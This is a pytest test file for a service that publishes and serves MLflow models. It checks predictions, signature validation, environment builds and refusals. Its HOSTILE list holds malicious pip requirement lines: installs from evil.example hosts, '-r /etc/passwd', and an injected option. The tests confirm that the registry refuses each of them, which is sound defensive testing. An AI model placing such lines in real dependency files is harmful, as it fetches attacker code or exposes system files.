"""Models as MLflow saves them, published and served; each answers what it answers in Python."""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import mlflow
import numpy
import pandas
import pytest
from conftest import REQUIREMENTS, House
from mlflow.models import infer_signature
from modelward import Refused
from sklearn.datasets import load_iris
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression

ROWS, LABELS = load_iris(return_X_y=True, as_frame=True)
TRIED = ROWS.iloc[::10]
SKOPS = {"serialization_format": "skops", "skops_trusted_types": ["sklearn.tree._tree.Tree"]}


def signed(predicted: Any, rows: Any = ROWS) -> dict[str, Any]:
    """What every model here is saved with."""
    return {"signature": infer_signature(rows, predicted), "pip_requirements": REQUIREMENTS}


def forest() -> RandomForestClassifier:
    return RandomForestClassifier(n_estimators=10, random_state=0).fit(ROWS, LABELS)


def sklearn_skops(folder: Path) -> None:
    model = forest()
    mlflow.sklearn.save_model(model, folder, input_example=ROWS.head(3), **SKOPS, **signed(model.predict(ROWS)))


def sklearn_cloudpickle(folder: Path) -> None:
    model = LogisticRegression(max_iter=1000).fit(ROWS, LABELS.map({0: "setosa", 1: "versicolor", 2: "virginica"}))
    mlflow.sklearn.save_model(model, folder, serialization_format="cloudpickle", **signed(model.predict(ROWS)))


def sklearn_pickle_of_arrays(folder: Path) -> None:
    model = LogisticRegression(max_iter=1000).fit(ROWS.to_numpy(), LABELS)
    arrays = signed(model.predict(ROWS.to_numpy()), ROWS.to_numpy())
    mlflow.sklearn.save_model(model, folder, serialization_format="pickle", **arrays)


def xgboost(folder: Path) -> None:
    from xgboost import XGBClassifier

    model = XGBClassifier(n_estimators=5).fit(ROWS, LABELS)
    mlflow.xgboost.save_model(model, folder, **signed(model.predict(ROWS)))


def lightgbm(folder: Path) -> None:
    from lightgbm import LGBMRegressor

    model = LGBMRegressor(n_estimators=5, verbose=-1).fit(ROWS, LABELS)
    mlflow.lightgbm.save_model(model, folder, **signed(model.predict(ROWS)))


def python_with_code(folder: Path) -> None:
    code = folder.parent / "shop_prices"
    code.mkdir()
    (code / "__init__.py").write_text(
        "import mlflow\n\n\nclass Prices(mlflow.pyfunc.PythonModel):\n"
        "    def predict(self, context, model_input, params=None):\n"
        "        total = model_input.sum(axis=1) * params['factor']\n"
        "        return model_input.assign(total=total)[['total']]\n"
    )
    sys.path.insert(0, str(folder.parent))
    try:
        from shop_prices import Prices

        signature = infer_signature(ROWS, pandas.DataFrame({"total": [1.5]}), params={"factor": 2.0})
        saved = {"signature": signature, "pip_requirements": REQUIREMENTS}
        mlflow.pyfunc.save_model(folder, python_model=Prices(), code_paths=[str(code)], **saved)
    finally:
        sys.path.remove(str(folder.parent))


KINDS = (sklearn_skops, sklearn_cloudpickle, sklearn_pickle_of_arrays, xgboost, lightgbm, python_with_code)


@pytest.fixture(scope="session")
def saved(tmp_path_factory: pytest.TempPathFactory) -> Callable[..., Path]:
    """The folder of a model of this kind, saved once."""
    folders: dict[str, Path] = {}

    def save(kind: Callable[[Path], None]) -> Path:
        if kind.__name__ not in folders:
            folder = tmp_path_factory.mktemp(kind.__name__) / "model"
            kind(folder)
            folders[kind.__name__] = folder
        return folders[kind.__name__]

    return save


def plain(predicted: Any) -> list:
    """As JSON has it."""
    return predicted.to_dict("records") if isinstance(predicted, pandas.DataFrame) else predicted.tolist()


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
def test_a_served_model_answers_what_it_answers_in_python(house: House, saved: Any, kind: Any) -> None:
    folder = saved(kind)
    name = kind.__name__.replace("_", "-")
    house.serve(name, folder)
    given = TRIED.to_numpy() if "arrays" in kind.__name__ else TRIED
    expected = plain(mlflow.pyfunc.load_model(str(folder)).predict(given))
    assert house.predict(name, TRIED.to_numpy().tolist()) == expected
    if "arrays" not in kind.__name__:
        by_name = TRIED[TRIED.columns[::-1]].to_dict("records")
        assert house.predict(name, by_name) == house.predict(name, TRIED.to_numpy().tolist())


def test_rows_are_checked_against_mlflows_signature(house: House, saved: Any) -> None:
    house.serve("checked", saved(sklearn_skops))
    with pytest.raises(Refused) as refused:
        house.predict("checked", [[1, 2, 3, "x"]])
    assert "instances[0][3]" in str(refused.value)
    with pytest.raises(Refused):
        house.predict("checked", [{"sepal length (cm)": 1}])


def test_types_missing_values_times_and_bytes_reach_the_model(house: House, tmp_path: Path) -> None:
    class Told(mlflow.pyfunc.PythonModel):
        def predict(self, context, model_input, params=None):  # noqa: ANN001, ANN202
            known = model_input.get("maybe", pandas.Series([None] * len(model_input)))
            return [
                f"{row.n + 1} {row.when.year} {row.raw!r} {row.flag} {'nothing' if pandas.isna(more) else more}"
                for row, more in zip(model_input.itertuples(), known)
            ]

    columns = [("long", "n"), ("datetime", "when"), ("binary", "raw"), ("boolean", "flag"), ("double", "maybe")]
    from mlflow.types import ColSpec, Schema

    inputs = Schema([ColSpec(kind, name, required=name != "maybe") for kind, name in columns])
    signature = mlflow.models.ModelSignature(inputs, Schema([ColSpec("string")]))
    folder = tmp_path / "told"
    mlflow.pyfunc.save_model(folder, python_model=Told(), signature=signature, pip_requirements=REQUIREMENTS)
    house.serve("told", folder)
    row = {"n": 9007199254740993, "when": "2026-05-01T10:00:00", "raw": "YQ==", "flag": True}
    answers = house.predict("told", [row, row | {"maybe": 1.5}, row | {"maybe": None}])
    start = "9007199254740994 2026 b'a' True "
    assert answers == [start + "nothing", start + "1.5", start + "nothing"]
    assert house.predict("told", [row]) == [start + "nothing"]


def test_tensors_have_their_shape_and_type(house: House, tmp_path: Path) -> None:
    class Shapes(mlflow.pyfunc.PythonModel):
        def predict(self, context, model_input, params=None):  # noqa: ANN001, ANN202
            if model_input.dtype != numpy.float32 or model_input.shape[1:] != (2, 3):
                raise TypeError(f"{model_input.dtype} {model_input.shape}")
            return model_input.sum(axis=(1, 2))

    given = numpy.arange(12, dtype="float32").reshape(2, 2, 3)
    folder = tmp_path / "shapes"
    mlflow.pyfunc.save_model(folder, python_model=Shapes(), **signed(given.sum(axis=(1, 2)), given))
    house.serve("shapes", folder)
    assert house.predict("shapes", given.tolist()) == [15.0, 51.0]
    with pytest.raises(Refused):
        house.predict("shapes", [[[1, 2, 3]]])


def test_a_model_without_a_signature_is_looked_at_when_it_is_published(house: House, tmp_path: Path) -> None:
    folder = tmp_path / "unsigned"
    mlflow.sklearn.save_model(forest(), folder, pip_requirements=REQUIREMENTS, **SKOPS)
    version = house.serve("unsigned", folder)
    signature = house.version("unsigned", version)["signature"]
    assert signature["input"]["width"] == 4
    assert signature["input"]["columns"] == list(ROWS.columns)
    assert signature["output"]["type"] == "integer"
    assert house.predict("unsigned", TRIED.to_numpy().tolist()) == forest().predict(TRIED).tolist()


def test_versions_of_one_lock_share_an_environment_which_a_restart_keeps(saved: Any, tmp_path: Path) -> None:
    house = House(tmp_path / "data")
    try:
        first = house.serve("first", saved(sklearn_skops))
        second = house.publish("second", saved(lightgbm))
        one, two = house.version("first", first)["environment"], house.version("second", second)["environment"]
        assert one == two
        assert one["state"] == "ready" and one["digest"].startswith("sha256:")
        house.stop()
        house.start()
        assert house.version("first", first)["environment"] == one
        house.registry.create_endpoint("again", "first", first, reason="after the restart")
        assert house.predict("again", TRIED.to_numpy().tolist()) == forest().predict(TRIED).tolist()
    finally:
        house.stop()


def test_an_environment_that_cannot_be_built_is_explained(house: House, saved: Any, require: Any) -> None:
    absent = "modelward-has-no-such-package==1.0"
    version = house.publish("absent", require(saved(sklearn_skops), f"mlflow==3.17.2\n{absent}\n"))
    assert house.version("absent", version)["environment"]["state"] == "none"
    for _ in range(2):
        with pytest.raises(Refused) as refused:
            house.registry.create_endpoint("absent", "absent", version, reason="a scenario")
        assert absent in str(refused.value)
    shown = house.version("absent", version)["environment"]
    assert shown["state"] == "failed" and absent in shown["why"]


HOSTILE = (
    "--index-url https://evil.example/simple",
    "--find-links /tmp",
    "-r /etc/passwd",
    "-e .",
    "evil @ https://evil.example/evil-1.0-py3-none-any.whl",
    "git+https://evil.example/evil.git",
    "numpy; python_version<'4' --config-settings=x",
)


@pytest.mark.parametrize("line", HOSTILE)
def test_a_requirement_that_is_no_package_of_the_registry_is_named(
    house: House, saved: Any, require: Any, line: str
) -> None:
    name = f"hostile-{HOSTILE.index(line)}"
    version = house.publish(name, require(saved(sklearn_skops), f"mlflow==3.17.2\n{line}\n"))
    with pytest.raises(Refused) as refused:
        house.registry.create_endpoint(name, name, version, reason="a scenario")
    assert line in str(refused.value)
    assert house.version(name, version)["environment"]["state"] == "failed"


@pytest.mark.parametrize("text", ["flavors: [", "a: b", "flavors: {a: {}}\nsignature: {inputs: '[{'}"])
def test_a_file_that_is_no_mlmodel_is_refused_by_its_name(house: House, tmp_path: Path, text: str) -> None:
    (tmp_path / "bad").mkdir()
    (tmp_path / "bad" / "MLmodel").write_text(text)
    with pytest.raises(Refused) as refused:
        house.publish("bad", tmp_path / "bad")
    assert "MLmodel" in str(refused.value)


def test_a_model_that_is_not_for_python_says_so_when_it_is_served(house: House, tmp_path: Path) -> None:
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "MLmodel").write_text("flavors: {crate: {version: 1}}\n")
    version = house.publish("other", tmp_path / "other")
    with pytest.raises(Refused) as refused:
        house.registry.create_endpoint("other", "other", version, reason="a scenario")
    assert "python_function" in str(refused.value)
